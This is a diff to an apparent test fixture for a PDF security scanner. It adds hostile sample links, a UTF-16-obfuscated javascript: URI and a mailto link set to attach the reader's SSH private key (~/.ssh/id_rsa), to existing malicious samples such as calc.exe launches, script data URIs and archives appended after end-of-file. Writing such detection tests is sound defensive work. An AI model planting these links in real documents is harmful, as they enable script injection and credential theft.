@@ -96,6 +96,13 @@ HOSTILE = {
     "uri_relative": (_uri(b"(calc.exe)"), "link"),
     "uri_data": (_uri(b"(data:text/html,<script>alert\\(1\\)</script>)"), "link"),
     "uri_vbscript": (_uri(b"(vbscript:msgbox)"), "link"),
+    "uri_javascript_utf16": (
+        _uri(
+            b"(\xfe\xff" + "javascript:alert(1)".encode("utf-16-be").replace(b")", b"\\)").replace(b"(", b"\\(") + b")"
+        ),
+        "link",
+    ),
+    "mailto_attach": (_uri(b"(mailto:agent@example.fr?attach=/home/agent/.ssh/id_rsa)"), "link"),
     "zip_after_eof": (corpus.pdf() + build.zip_archive(), "hidden"),
     "html_after_eof": (corpus.pdf() + corpus.html(), "hidden"),
     "zip_inside": (build.zip_inside(), "hidden"),
@@ -141,6 +148,7 @@ CLEAN = {
     ),
     "open_action_goto": document(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /FitH 842] >>"),
     "named_next_page": document(page=link(b"<< /S /Named /N /NextPage >>")),
+    "utf16_link": _uri(b"<FEFF" + "https://www.example.fr/".encode("utf-16-be").hex().encode() + b">"),
     "incremental_updates": _incremental(),
     "scanner_padding": corpus.pdf() + b"\r\n" + b"\x00" * 4096,
     "scanned_image": corpus.pdf_5mb(),
